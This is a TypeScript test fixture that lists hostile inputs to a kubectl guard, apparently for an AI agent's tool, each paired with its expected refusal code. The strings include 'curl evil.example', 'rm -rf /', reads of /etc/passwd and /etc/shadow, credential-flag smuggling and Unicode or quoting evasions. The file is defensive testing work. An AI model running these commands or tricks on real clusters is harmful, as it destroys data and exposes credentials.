// Hostile execute_kubectl inputs, each with the refusal code it must get. Hand-written cases
// first; then every refused flag in every spelling kubectl accepts, generated from one table so no
// flag/spelling pair is forgotten.
import type { GuardRefusal } from '../../../src/core/policy/kubectl-guard.js';

export interface HostileCase {
  line: string;
  code: GuardRefusal;
  why: string;
}

const handWritten: HostileCase[] = [
  // Shell metacharacters outside quotes.
  { line: 'get pods; rm -rf /', code: 'shell', why: 'command separator' },
  { line: 'get pods | sh', code: 'shell', why: 'pipe' },
  { line: 'get pods || curl evil.example', code: 'shell', why: 'or-list' },
  { line: 'get pods && kubectl delete ns shop', code: 'shell', why: 'and-list' },
  { line: 'get pods &', code: 'shell', why: 'background' },
  { line: 'get pods > /tmp/out', code: 'shell', why: 'redirect out' },
  { line: 'get pods >> ~/.bashrc', code: 'shell', why: 'append redirect' },
  { line: 'get pods < /etc/passwd', code: 'shell', why: 'redirect in' },
  { line: 'get pods $(cat /etc/passwd)', code: 'shell', why: 'command substitution' },
  { line: 'get pods `id`', code: 'shell', why: 'backtick substitution' },
  { line: 'get pods -n "$(whoami)"', code: 'shell', why: 'substitution inside double quotes' },
  { line: 'get pods -n "`id`"', code: 'shell', why: 'backticks inside double quotes' },
  { line: 'get pods -n $NAMESPACE', code: 'shell', why: 'variable expansion' },
  { line: 'get pods -n ${NS}', code: 'shell', why: 'braced variable expansion' },
  { line: 'get pods\nrm -rf /', code: 'shell', why: 'newline starts a second command' },
  { line: '(get pods)', code: 'shell', why: 'subshell' },
  { line: 'get pods <(curl evil.example)', code: 'shell', why: 'process substitution' },
  // Quoting tricks.
  { line: "get pods -n 'shop", code: 'syntax', why: 'unterminated single quote' },
  { line: 'get pods -l "app=web', code: 'syntax', why: 'unterminated double quote' },
  { line: 'get pods \\', code: 'syntax', why: 'trailing backslash' },
  {
    line: "get pods '--kubeconfig=/tmp/evil'",
    code: 'credential-flag',
    why: 'flag hidden in single quotes',
  },
  {
    line: 'get pods "--kubeconfig=/tmp/evil"',
    code: 'credential-flag',
    why: 'flag hidden in double quotes',
  },
  {
    line: 'get pods --kube"config"=/tmp/evil',
    code: 'credential-flag',
    why: 'quotes inside the flag name',
  },
  {
    line: "get pods --kube''config=/tmp/evil",
    code: 'credential-flag',
    why: 'empty quotes inside the flag name',
  },
  {
    line: 'get pods --kube\\config=/tmp/evil',
    code: 'credential-flag',
    why: 'backslash inside the flag name',
  },
  { line: "get pods -'f' /tmp/x.yaml", code: 'file-flag', why: 'quoted short flag' },
  { line: "'delete' ns kube-system", code: 'protected', why: 'quoted verb' },
  { line: "get pods ''", code: 'argument', why: 'empty argument' },
  { line: 'get pods -n ""', code: 'argument', why: 'empty namespace' },
  // Control characters and length.
  { line: 'get pods\u0000 --raw /', code: 'control-character', why: 'NUL' },
  { line: 'get pods\r--raw /', code: 'control-character', why: 'carriage return' },
  { line: 'get pods \u001b[2J', code: 'control-character', why: 'terminal escape' },
  { line: 'get pods \u007f', code: 'control-character', why: 'DEL' },
  { line: "get pods -l 'a=b\nc'", code: 'control-character', why: 'newline inside quotes' },
  { line: 'get pods \u0085', code: 'control-character', why: 'C1 next-line' },
  { line: `get pods ${'a'.repeat(2_000)}`, code: 'too-long', why: 'over 2,000 characters' },
  { line: `get pods -l ${'x=y,'.repeat(600)}`, code: 'too-long', why: 'long selector' },
  { line: '', code: 'empty', why: 'nothing' },
  { line: '   \t ', code: 'empty', why: 'blanks only' },
  { line: 'kubectl', code: 'empty', why: 'kubectl alone' },
  { line: '-n shop', code: 'empty', why: 'flags without a command' },
  // Unicode look-alikes and invisible characters.
  { line: 'get pods \u2014kubeconfig=/tmp/evil', code: 'unicode', why: 'em dash instead of --' },
  { line: 'get pods \u2013kubeconfig=/tmp/evil', code: 'unicode', why: 'en dash instead of --' },
  { line: 'get pods \u2212\u2212raw=/', code: 'unicode', why: 'minus signs instead of --' },
  { line: 'get pods \uff0d\uff0draw=/', code: 'unicode', why: 'full-width hyphen-minus' },
  { line: '\uff47\uff45\uff54 pods', code: 'unicode', why: 'full-width verb' },
  { line: 'get pods\uff1b rm -rf /', code: 'unicode', why: 'full-width semicolon' },
  { line: 'get pods -n sh\u200bop', code: 'unicode', why: 'zero-width space' },
  { line: 'get pods -n shop\u202e', code: 'unicode', why: 'right-to-left override' },
  {
    line: 'get pods\u00a0--raw=/',
    code: 'unicode',
    why: 'no-break space joins a flag to the word',
  },
  { line: 'g\u0435t pods', code: 'unicode', why: 'Cyrillic e in the verb' },
  // Forbidden verbs, each pointing at what to use.
  { line: 'exec -it web-1 -- /bin/sh', code: 'verb', why: 'exec: use exec_into_pod' },
  { line: 'kubectl exec web-1 -- env', code: 'verb', why: 'exec with leading kubectl' },
  { line: 'attach web-1 -i', code: 'verb', why: 'attach' },
  { line: 'port-forward svc/db 5432', code: 'verb', why: 'port-forward' },
  { line: 'proxy --port=8001', code: 'verb', why: 'proxy' },
  { line: 'cp web-1:/etc/shadow ./shadow', code: 'verb', why: 'cp' },
  { line: 'debug node/n1 -it --image=busybox', code: 'verb', why: 'debug' },
  { line: 'run pwn --image=alpine -- sh', code: 'verb', why: 'run: use run_container_in_pod' },
  { line: 'apply -f https://evil.example/x.yaml', code: 'verb', why: 'apply' },
  { line: 'create secret generic x --from-literal=a=b', code: 'verb', why: 'create' },
  { line: 'edit deploy web', code: 'verb', why: 'edit' },
  { line: 'patch deploy web -p {"spec":{}}', code: 'verb', why: 'patch' },
  { line: 'replace --force -f x.yaml', code: 'verb', why: 'replace' },
  { line: 'config view --raw', code: 'verb', why: 'config view prints credentials' },
  { line: 'auth can-i --list', code: 'verb', why: 'auth' },
  { line: 'drain node-1 --force', code: 'verb', why: 'drain' },
  { line: 'taint nodes n1 k=v:NoSchedule', code: 'verb', why: 'taint' },
  { line: 'kustomize /etc', code: 'verb', why: 'kustomize reads local dirs' },
  {
    line: 'cluster-info dump --output-directory=/tmp/dump',
    code: 'verb',
    why: 'cluster-info dump',
  },
  { line: 'set env deploy/web PASSWORD=x', code: 'verb', why: 'set env' },
  { line: 'set serviceaccount deploy/web admin', code: 'verb', why: 'set serviceaccount' },
  { line: 'rollout bogus deploy/web', code: 'verb', why: 'unknown rollout subcommand' },
  { line: 'rollout', code: 'verb', why: 'rollout without subcommand' },
  { line: 'top', code: 'verb', why: 'top without pod or node' },
  { line: 'top containers', code: 'verb', why: 'top with an unknown target' },
  // Plugins and unknown verbs.
  { line: 'plugin list', code: 'plugin', why: 'plugin listing' },
  { line: 'krew install evil', code: 'plugin', why: 'krew plugin' },
  { line: 'evil-plugin --do-it', code: 'plugin', why: 'unknown verb runs kubectl-evil-plugin' },
  { line: 'kubectl kubectl get pods', code: 'plugin', why: 'doubled kubectl' },
  { line: '/bin/sh -c id', code: 'plugin', why: 'a path as verb' },
  { line: 'GET pods', code: 'plugin', why: 'upper-case verb' },
  { line: 'sudo kubectl get pods', code: 'plugin', why: 'sudo' },
  { line: 'constructor', code: 'plugin', why: 'prototype property name as verb' },
  { line: '__proto__ x', code: 'plugin', why: 'prototype name as verb' },
  { line: 'rollout toString x', code: 'verb', why: 'prototype name as subcommand' },
  // --raw and passthrough.
  { line: 'get --raw /api/v1/namespaces/kube-system/secrets', code: 'raw', why: '--raw GET' },
  { line: 'get --raw=/metrics', code: 'raw', why: '--raw=' },
  { line: 'delete --raw /api/v1/namespaces/shop', code: 'raw', why: '--raw DELETE' },
  { line: '--raw /api get', code: 'raw', why: '--raw before the verb' },
  { line: 'get pods -- --kubeconfig=/x', code: 'passthrough', why: '-- then a flag' },
  { line: 'logs web-1 -- sh', code: 'passthrough', why: '-- passthrough on logs' },
  { line: 'get -', code: 'argument', why: 'stdin' },
  // Output formats.
  { line: 'get pods -o go-template-file=/etc/passwd', code: 'file-flag', why: 'go-template-file' },
  { line: 'get pods -o templatefile=/etc/passwd', code: 'file-flag', why: 'templatefile' },
  { line: 'get pods -ojsonpath-file=/etc/passwd', code: 'file-flag', why: 'jsonpath-file glued' },
  {
    line: 'get pods --output=custom-columns-file=/etc/passwd',
    code: 'file-flag',
    why: 'custom-columns-file',
  },
  {
    line: 'get pods -o=JSONPATH-FILE=/etc/passwd',
    code: 'file-flag',
    why: 'upper-case file format',
  },
  {
    line: 'get pods --output jsonpath-file --template /etc/passwd',
    code: 'file-flag',
    why: 'file format and --template path',
  },
  { line: 'get pods -o table', code: 'output', why: 'unknown format' },
  { line: 'get pods -o jsonpath=', code: 'output', why: 'empty jsonpath' },
  // Stream flags.
  { line: 'logs -f web-1', code: 'stream', why: 'logs follow' },
  { line: 'logs --follow web-1', code: 'stream', why: 'logs --follow' },
  { line: 'logs -pf web-1', code: 'stream', why: 'follow clustered after -p' },
  { line: 'get pods -w', code: 'stream', why: 'watch' },
  { line: 'get pods --watch-only', code: 'stream', why: 'watch-only' },
  { line: 'events --watch', code: 'stream', why: 'events watch' },
  { line: 'get pods -Aw', code: 'stream', why: 'watch clustered' },
  // Scope of writes.
  { line: 'delete pods --all', code: 'scope', why: 'delete --all' },
  { line: 'delete pods --all=true -n shop', code: 'scope', why: 'delete --all=true' },
  { line: 'delete pods -A -l app=web', code: 'scope', why: 'delete across namespaces' },
  { line: 'delete pods --all-namespaces web', code: 'scope', why: 'delete --all-namespaces' },
  { line: 'delete pods', code: 'scope', why: 'delete with no name or selector' },
  { line: 'delete', code: 'scope', why: 'delete nothing' },
  { line: 'delete pods --dry-run=server', code: 'scope', why: 'delete with only a dry-run' },
  { line: 'rollout restart deployment -n shop', code: 'scope', why: 'restart every deployment' },
  { line: 'rollout undo deploy', code: 'scope', why: 'undo every deployment' },
  { line: 'rollout pause deployments,statefulsets', code: 'scope', why: 'pause every workload' },
  { line: 'scale deploy --replicas=0', code: 'scope', why: 'scale without a name' },
  { line: 'label pods --all team=x', code: 'scope', why: 'label --all' },
  { line: 'annotate pods -A --all a=b', code: 'scope', why: 'annotate across namespaces' },
  { line: 'scale deploy --all --replicas=0', code: 'scope', why: 'scale --all to zero' },
  { line: 'set image deploy --all app=evil:latest', code: 'scope', why: 'set image --all' },
  { line: 'delete ns kube-system', code: 'protected', why: 'kube-system' },
  { line: 'delete namespace default', code: 'protected', why: 'default' },
  { line: 'delete namespaces/kube-public', code: 'protected', why: 'TYPE/NAME form' },
  { line: 'delete Namespace.v1 kube-node-lease', code: 'protected', why: 'kind with version' },
  { line: 'delete deploy,ns kube-system', code: 'protected', why: 'hidden in a type list' },
  {
    line: 'delete ns -l kubernetes.io/metadata.name=kube-system',
    code: 'protected',
    why: 'namespace by selector',
  },
  { line: 'delete ns shop kube-system', code: 'protected', why: 'second name' },
  // Flags that are not allowed for the verb, or not at all.
  { line: 'describe pods -o yaml', code: 'flag', why: 'describe has no -o' },
  { line: 'get pods -v=9', code: 'flag', why: 'verbose logging prints credentials' },
  { line: 'get pods --v 10', code: 'flag', why: '--v' },
  { line: 'get pods --vmodule=*=9', code: 'flag', why: 'vmodule' },
  { line: 'delete pod web -i', code: 'flag', why: 'interactive' },
  { line: 'get pods --help', code: 'flag', why: 'help' },
  { line: 'get pods --field-manager=x', code: 'flag', why: 'flag of another verb' },
  { line: 'get pods --Kubeconfig=/x', code: 'flag', why: 'kubectl flags are case-sensitive' },
  { line: 'get pods --match-server-version', code: 'flag', why: 'global flag not on the list' },
  { line: 'get pods -x', code: 'flag', why: 'unknown short flag' },
  { line: '--warnings-as-errors get pods', code: 'flag', why: 'unknown flag before the verb' },
  {
    line: 'rollout --revision=2 history deploy/web',
    code: 'flag',
    why: 'flag between rollout and its subcommand',
  },
  { line: 'cordon node-1 -o yaml', code: 'flag', why: 'cordon has no -o' },
  // Syntax that kubectl would reject or read another way.
  { line: 'get pods ---kubeconfig=/x', code: 'syntax', why: 'three dashes' },
  { line: 'get pods --=x', code: 'syntax', why: 'empty flag name' },
  { line: 'get pods -n', code: 'syntax', why: 'missing value' },
  { line: 'get pods -A=maybe', code: 'syntax', why: 'bool with a non-bool value' },
  {
    line: 'get pods -n --kubeconfig=/x',
    code: 'credential-flag',
    why: 'refused flag where a value goes',
  },
  { line: 'get pods -l -f', code: 'file-flag', why: '-f where a value goes' },
  { line: 'get pods -n --show-labels', code: 'syntax', why: 'allowed flag where a value goes' },
  // Bad values.
  { line: 'get pods -n Shop_Prod', code: 'argument', why: 'not a namespace name' },
  { line: 'get pods -n=../../etc', code: 'argument', why: 'path as namespace' },
  { line: 'version extra', code: 'argument', why: 'version takes no arguments' },
  { line: 'cluster-info now', code: 'argument', why: 'cluster-info takes no arguments' },
  { line: 'delete pod/', code: 'argument', why: 'TYPE/ without a name' },
];

/** Refused flags that take a value, with the code each must get; bool ones are listed below. */
const valueFlags: [name: string, short: string | undefined, code: GuardRefusal][] = [
  ['filename', 'f', 'file-flag'],
  ['kustomize', 'k', 'file-flag'],
  ['from-file', undefined, 'file-flag'],
  ['from-env-file', undefined, 'file-flag'],
  ['kuberc', undefined, 'file-flag'],
  ['kubeconfig', undefined, 'credential-flag'],
  ['server', 's', 'credential-flag'],
  ['token', undefined, 'credential-flag'],
  ['as', undefined, 'credential-flag'],
  ['as-group', undefined, 'credential-flag'],
  ['as-uid', undefined, 'credential-flag'],
  ['as-user-extra', undefined, 'credential-flag'],
  ['user', undefined, 'credential-flag'],
  ['username', undefined, 'credential-flag'],
  ['password', undefined, 'credential-flag'],
  ['context', undefined, 'credential-flag'],
  ['cluster', undefined, 'credential-flag'],
  ['certificate-authority', undefined, 'credential-flag'],
  ['client-key', undefined, 'credential-flag'],
  ['client-certificate', undefined, 'credential-flag'],
  ['tls-server-name', undefined, 'credential-flag'],
  ['cache-dir', undefined, 'local-write-flag'],
  ['profile', undefined, 'local-write-flag'],
  ['profile-output', undefined, 'local-write-flag'],
  ['raw', undefined, 'raw'],
];

const boolFlags: [name: string, short: string | undefined, code: GuardRefusal][] = [
  ['insecure-skip-tls-verify', undefined, 'credential-flag'],
  ['recursive', 'R', 'file-flag'],
];

function spellings(name: string, short: string | undefined, takesValue: boolean): string[] {
  const v = takesValue ? '/tmp/x' : 'true';
  const out = [
    `get pods --${name}=${v}`,
    `--${name}=${v} get pods`,
    `describe pod web-1 --${name}=${v}`,
  ];
  if (takesValue) out.push(`get pods --${name} ${v}`, `delete pod web --${name} ${v}`);
  else out.push(`get pods --${name}`);
  if (name.includes('-')) out.push(`get pods --${name.replaceAll('-', '_')}=${v}`);
  if (short) {
    if (takesValue) {
      out.push(`get pods -${short} ${v}`, `get pods -${short}${v}`, `get pods -${short}=${v}`);
      out.push(`get pods -A${short} ${v}`, `get pods -n${short}`, `-${short} ${v} get pods`);
    } else {
      out.push(`get pods -${short}`, `get pods -A${short}`);
    }
  }
  return out;
}

const generated: HostileCase[] = [
  ...valueFlags.flatMap(([name, short, code]) =>
    spellings(name, short, true).map((line) => ({
      line,
      code,
      why: `--${name} spelled as in "${line}"`,
    })),
  ),
  ...boolFlags.flatMap(([name, short, code]) =>
    spellings(name, short, false).map((line) => ({
      line,
      code,
      why: `--${name} spelled as in "${line}"`,
    })),
  ),
];

export const hostileKubectl: HostileCase[] = [...handWritten, ...generated];
